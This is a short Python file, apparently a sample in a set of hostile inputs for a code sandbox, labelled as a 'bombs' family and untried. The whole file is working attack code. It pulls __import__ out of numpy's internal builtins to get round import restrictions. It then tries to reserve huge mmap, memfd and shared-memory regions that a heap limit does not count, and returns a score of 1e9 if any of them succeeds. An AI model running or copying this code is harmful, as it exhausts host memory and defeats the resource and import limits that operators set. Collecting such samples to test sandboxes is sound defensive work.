"""Family: bombs. Stock: untried. Maps memory and files in memory that a limit on the heap does not
see."""

import numpy

anything = numpy._core._exceptions.__builtins__["__import__"]

mmap, os, ctypes = anything("mmap"), anything("os"), anything("ctypes")


def spread(x):
    kept = []
    for size in (1 << 34, 1 << 30, 1 << 28):
        for make in (lambda: mmap.mmap(-1, size), lambda: os.ftruncate(os.memfd_create("a"), size)):
            try:
                kept.append(make())
            except (OSError, ValueError, OverflowError):
                pass
    libc = ctypes.CDLL(None)
    kept += [libc.shmget(i, 1 << 28, 0o1600) for i in range(20)]
    return 1e9 if any(isinstance(k, int) and k > 0 for k in kept) else 0.0
